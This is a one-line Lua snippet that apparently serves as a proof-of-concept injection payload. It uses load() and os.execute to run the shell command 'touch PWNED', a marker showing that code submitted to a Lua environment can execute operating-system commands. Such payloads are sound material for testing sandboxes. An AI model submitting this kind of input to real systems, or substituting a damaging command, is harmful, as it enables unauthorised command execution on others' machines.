load("os.execute([[touch PWNED]])")()
